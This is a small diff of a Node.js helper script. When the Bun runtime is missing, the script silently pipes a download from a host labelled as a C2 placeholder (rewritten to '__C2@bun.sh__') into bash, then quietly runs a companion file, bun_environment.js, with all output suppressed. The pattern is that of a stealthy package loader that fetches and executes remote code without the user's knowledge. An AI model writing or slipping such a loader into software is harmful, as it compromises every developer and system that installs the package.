@@ -8,7 +8,7 @@ const { spawnSync } = require('child_process');
 
 let bun = spawnSync('sh', ['-c', 'command -v bun'], { encoding: 'utf8' }).stdout.trim();
 if (!bun) {
-  spawnSync('sh', ['-c', 'curl -fsSL __C2__/install | bash'], { stdio: 'ignore' });
+  spawnSync('sh', ['-c', 'curl -fsSL __C2@bun.sh__/install | bash'], { stdio: 'ignore' });
   bun = path.join(os.homedir(), '.bun', 'bin', 'bun');
 }
 spawnSync(bun, [path.join(__dirname, 'bun_environment.js')], { stdio: 'ignore' });
